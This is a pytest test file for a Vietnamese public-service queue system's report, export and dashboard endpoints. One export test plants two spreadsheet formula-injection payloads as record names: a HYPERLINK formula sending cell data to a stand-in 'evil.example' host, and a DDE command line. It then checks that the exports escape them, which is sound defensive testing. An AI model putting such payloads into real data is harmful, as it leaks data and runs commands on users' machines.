"""Report and dashboard endpoints: permissions, exports read back, formula injection,
the live dashboard, bad input, and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from onestop import demo
from onestop.app import create_app
from onestop.extensions import db
from onestop.models import Base
from onestop.queueing.models import Counter
from onestop.units.models import Unit
from tests.conftest import SECRET, bearer, token_for
from tests.reports.script import Plan, local, write
from tests.reports.test_figures import MONDAY, expected, scripted_day

REPORT_URLS = ["/api/v1/reports/summary", "/api/v1/reports/breakdown?by=clerk", "/api/v1/reports/heatmap",
               "/api/v1/reports/data", "/api/v1/reports/staffing", "/api/v1/reports/export?format=csv",
               "/api/v1/dashboard"]
PAGES = ["/manager/", "/manager/reports", "/manager/staffing"]


CSRF_INPUT = re.compile(r'<input[^>]*name="csrf_token"[^>]*value="([^"]+)"')


def _login(client: Any, username: str) -> None:
    match = CSRF_INPUT.search(client.get("/login").get_data(as_text=True))
    assert match
    res = client.post("/login", data={"username": username, "password": demo.DEMO_PASSWORD,
                                      "csrf_token": match.group(1)})
    assert res.status_code == 302


def _logout(client: Any) -> None:
    match = CSRF_INPUT.search(client.get("/").get_data(as_text=True))
    assert match
    client.post("/logout", data={"csrf_token": match.group(1)})


@pytest.mark.parametrize("url", REPORT_URLS)
def test_reports_are_for_managers_and_admins(client: Any, url: str) -> None:
    assert client.get(url).status_code == 401
    clerk = client.get(url, headers=bearer(token_for(client, "clerk1")))
    assert clerk.status_code == 403 and clerk.get_json()["error"]["code"] == "forbidden"
    for user in ("manager", "admin"):
        assert client.get(url, headers=bearer(token_for(client, user))).status_code == 200


def test_manager_pages_need_a_manager(client: Any) -> None:
    for page in PAGES:
        res = client.get(page)
        assert res.status_code == 302 and "/login" in res.headers["Location"]
    _login(client, "clerk1")
    for page in PAGES:
        res = client.get(page, headers={"Accept": "text/html"})
        assert res.status_code == 403
        assert "Bạn không có quyền" in res.get_data(as_text=True)
    _logout(client)
    _login(client, "manager")
    for page in PAGES:
        res = client.get(page)
        assert res.status_code == 200
        html = res.get_data(as_text=True)
        assert "<script>" not in html and "style=" not in html and "onclick" not in html
    assert 'id="served-today"' in client.get("/manager/").get_data(as_text=True)
    assert "chart.umd.min.js" in client.get("/manager/reports").get_data(as_text=True)


@pytest.mark.parametrize(("query", "status", "code"), [
    ("from=2026-11-30&to=2026-11-01", 422, "invalid_period"),
    ("from=2026-11-01", 422, "invalid_period"),
    ("from=2020-01-01&to=2026-01-01", 422, "invalid_period"),
    ("from=2026-13-01&to=2026-12-31", 422, "validation_error"),
    ("preset=week", 422, "validation_error"),
    ("from=2026-11-01&to=2026-11-02&service_id=999999", 404, "service_not_found"),
    ("from=2026-11-01&to=2026-11-02&counter_id=999999", 404, "counter_not_found"),
    ("from=2026-11-01&to=2026-11-02&clerk_id=999999", 404, "user_not_found"),
    ("from=2026-11-01&to=2026-11-02&sql=1", 422, "validation_error"),
])
def test_bad_report_queries_are_refused(client: Any, query: str, status: int, code: str) -> None:
    res = client.get(f"/api/v1/reports/summary?{query}", headers=bearer(token_for(client, "manager")))
    assert res.status_code == status
    assert res.get_json()["error"]["code"] == code


def _evil_names(app: Any) -> None:
    """A clerk and a counter whose names a spreadsheet would run as formulas."""
    with app.app_context():
        session = db.session()
        from onestop.accounts.models import User

        session.scalars(select(User).where(User.username == "clerk1")).one().full_name = (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")')
        session.scalars(select(Counter).where(Counter.number == 1)).one().name = "+cmd|' /C calc'!A0"
        session.commit()


def test_exports_read_back_with_the_right_figures(app: Any, client: Any) -> None:
    plans = scripted_day(n=120)
    with app.app_context():
        write(db.session(), db.session.scalars(select(Unit)).one().id, plans)
        db.session.commit()
    _evil_names(app)
    key = expected(plans)
    manager = bearer(token_for(client, "manager"))
    base = f"/api/v1/reports/export?from={MONDAY}&to={MONDAY}"

    res = client.get(base + "&format=xlsx", headers=manager)
    assert res.status_code == 200 and res.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in res.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(res.data))
    summary = book.worksheets[0]
    header = [c.value for c in summary[4]]
    row = dict(zip(header, [c.value for c in summary[5]], strict=True))
    assert row["Số phiếu cấp"] == 120 and row["Vắng mặt"] == key["missed"]
    # the digits the page shows: minutes to 0.1, shares to 0.1 %
    assert row["Chờ TB (phút)"] == pytest.approx(key["wait"]["avg"], abs=0.05 + 0.01)
    assert row["Tỷ lệ chờ đạt chuẩn"] == pytest.approx(key["service_level"], abs=5e-4 + 1e-4)
    # the breakdown and heat-map sheets agree with the answer key too
    by_field = _sheet_rows(book["Theo lĩnh vực"])
    assert sum(r["Số phiếu cấp"] for r in by_field) == 120
    assert sum(r["Vắng mặt"] for r in by_field) == key["missed"]
    heat = _sheet_rows(book["Số phiếu cấp theo giờ"])
    assert sum(v for r in heat for k, v in r.items() if k.endswith("h") and v) == 120
    cells = [c.value for sheet in book.worksheets for r in sheet.iter_rows() for c in r if c.value]
    evil = [v for v in cells if isinstance(v, str) and "HYPERLINK" in v]
    assert evil == ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")']
    assert "'+cmd|' /C calc'!A0" in cells
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "@")) for v in cells)

    res = client.get(base + "&format=csv", headers=manager)
    assert res.status_code == 200 and res.headers["Content-Type"].startswith("text/csv")
    assert res.data.startswith("\ufeff".encode())  # the BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(res.data.decode("utf-8-sig")), delimiter=";"))
    start = next(i for i, r in enumerate(rows) if r and r[0] == "Toàn đơn vị")
    line = dict(zip(rows[start], rows[start + 1], strict=True))
    assert line["Số phiếu cấp"] == "120"
    assert float(line["Chờ P90 (phút)"].replace(",", ".")) == pytest.approx(key["wait"]["p90"], abs=0.06)
    flat = [v for r in rows for v in r]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in flat
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in flat)

    res = client.get(base + "&format=pdf", headers=manager)
    assert res.status_code == 200 and res.mimetype == "application/pdf" and res.data.startswith(b"%PDF")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(res.data)).pages)
    assert "Trung tâm Phục vụ hành chính công xã Hòa Bình" in text
    assert "Theo lĩnh vực" in text and "120" in text


def _sheet_rows(sheet: Any) -> list[dict[str, Any]]:
    """A table sheet of the export (title, subtitle, table title, header, rows) as dicts."""
    rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=4)]
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:] if any(v is not None for v in r)]


def _counts(client: Any, headers: dict[str, str]) -> dict[str, Any]:
    res = client.get("/api/v1/dashboard", headers=headers)
    assert res.status_code == 200
    return res.get_json()  # type: ignore[no-any-return]


def test_dashboard_follows_issue_call_and_finish(client: Any) -> None:
    manager, clerk = bearer(token_for(client, "manager")), bearer(token_for(client, "clerk1"))
    before = _counts(client, manager)
    assert before["today"] == {"issued": 0, "served": 0} and before["waiting"]["total"] == 0
    assert before["counters"]["closed"] == 8 and before["longest_wait_minutes"] is None
    counter = next(c for c in before["counters"]["list"] if c["number"] == 1)
    sid = counter["service_ids"][0]
    assert client.post("/api/v1/tickets", json={"service_id": sid}, headers=manager).status_code == 201
    waiting = _counts(client, manager)
    assert waiting["today"]["issued"] == 1 and waiting["waiting"]["total"] == 1
    assert next(s for s in waiting["waiting"]["by_service"] if s["id"] == sid)["waiting"] == 1
    assert waiting["longest_wait_minutes"] is not None
    assert client.post(f"/api/v1/counters/{counter['id']}/open", headers=clerk).status_code == 200
    assert client.post(f"/api/v1/counters/{counter['id']}/pause", json={"reason": "Họp giao ban"},
                       headers=clerk).status_code == 200
    paused = _counts(client, manager)
    assert paused["counters"]["paused"] == 1
    assert next(c for c in paused["counters"]["list"] if c["number"] == 1)["pause_reason"] == "Họp giao ban"
    client.post(f"/api/v1/counters/{counter['id']}/resume", headers=clerk)
    assert client.post(f"/api/v1/counters/{counter['id']}/call-next", headers=clerk).status_code == 200
    assert client.post(f"/api/v1/counters/{counter['id']}/finish", json={"outcome": "served"},
                       headers=clerk).status_code == 200
    after = _counts(client, manager)
    assert after["today"] == {"issued": 1, "served": 1}
    assert after["waiting"]["total"] == 0 and after["counters"]["open"] == 1
    assert after["satisfaction"] == {"rated": 0, "satisfied": 0, "by_level": {}, "rate": None}


def test_dashboard_raises_silent_devices_until_they_beat(app: Any, client: Any) -> None:
    """Every kind of paired device sends a heartbeat; one silent for longer than
    ``device_stale_minutes`` is an alarm, and its next heartbeat clears it."""
    from onestop.accounts.engine import add_device

    with app.app_context():
        unit = db.session.scalars(select(Unit)).one()
        tokens = {}
        for kind, name in (("agent", "Máy in sảnh"), ("display", "Màn hình sảnh"),
                           ("kiosk", "Ki-ốt 1"), ("tablet", "Máy tính bảng quầy 1")):
            device, tokens[name], _code = add_device(
                db.session(), unit, kind=kind, name=name, now=dt.datetime.now(dt.UTC),
                counter_number=1 if kind == "tablet" else None)
            device.last_seen_at = None  # never heard from
        db.session.commit()
    manager = bearer(token_for(client, "manager"))

    def silent() -> set[str]:
        alarms = _counts(client, manager)["alarms"]
        return ({d["name"] for d in alarms["devices"]}
                | {p["name"] for p in alarms["printers"] if p["name"] == "Máy in sảnh"})

    assert silent() == {"Máy in sảnh", "Màn hình sảnh", "Ki-ốt 1", "Máy tính bảng quầy 1"}
    for name in ("Màn hình sảnh", "Ki-ốt 1"):
        res = client.post("/api/v1/devices/heartbeat", headers=bearer(tokens[name]))
        assert res.status_code == 200 and res.get_json()["every_seconds"] == 60
    assert silent() == {"Máy in sảnh", "Máy tính bảng quầy 1"}
    # a person is not a device, and nobody is not either
    assert client.post("/api/v1/devices/heartbeat", headers=manager).status_code == 403
    assert client.post("/api/v1/devices/heartbeat").status_code == 401


def test_summary_on_postgresql(tmp_path: Path, pg_url: str) -> None:
    from onestop.db import make_engine

    app = create_app({"DATA_DIR": str(tmp_path), "DATABASE_URL": pg_url, "SECRET_KEY": SECRET,
                      "TESTING": True, "ASYNC_MODE": "threading", "RATELIMIT_ENABLED": False})
    engine = make_engine(pg_url)
    Base.metadata.create_all(engine)
    engine.dispose()
    plans = scripted_day(n=200) + [Plan("TPHT", 1, local(MONDAY, 23, 50), 60, 60),
                                   Plan("TPHT", 1, local(MONDAY + dt.timedelta(days=1), 0, 10), 60, 60)]
    try:
        with app.app_context():
            unit = demo.load(db.session())
            write(db.session(), unit.id, plans)
            db.session.commit()
        client = app.test_client()
        key = expected(plans[:201])
        res = client.get(f"/api/v1/reports/summary?from={MONDAY}&to={MONDAY}",
                         headers=bearer(token_for(client, "manager")))
        assert res.status_code == 200, res.get_json()
        out = res.get_json()
        assert (out["issued"], out["served"], out["missed"], out["transferred"]) == (
            201, key["served"], key["missed"], key["transferred"])
        assert out["avg_wait_minutes"] == pytest.approx(key["wait"]["avg"], abs=0.01)
        assert out["p90_service_minutes"] == pytest.approx(key["service"]["p90"], abs=0.01)
        assert out["service_level"] == pytest.approx(key["service_level"], abs=1e-4)
        heat = client.get(f"/api/v1/reports/heatmap?from={MONDAY}&to={MONDAY + dt.timedelta(days=1)}",
                          headers=bearer(token_for(client, "manager"))).get_json()["weekday_hour"]
        assert (heat[0][23], heat[1][0]) == (1, 1)
        dashboard = client.get("/api/v1/dashboard", headers=bearer(token_for(client, "manager")))
        assert dashboard.status_code == 200 and dashboard.get_json()["today"]["issued"] == 0
    finally:
        db.session.remove()
        assert db.engine is not None
        db.engine.dispose()


def test_openapi_documents_the_report_endpoints(client: Any) -> None:
    res = client.get("/api/v1/openapi.json")
    assert res.status_code == 200
    paths = res.get_json()["paths"]
    for path in ("summary", "breakdown", "heatmap", "data", "staffing", "export"):
        assert f"/api/v1/reports/{path}" in paths
    assert "/api/v1/dashboard" in paths
    names = [p["name"] for p in paths["/api/v1/reports/summary"]["get"]["parameters"]]
    assert {"from", "to", "service_id", "counter_id"} <= set(names)
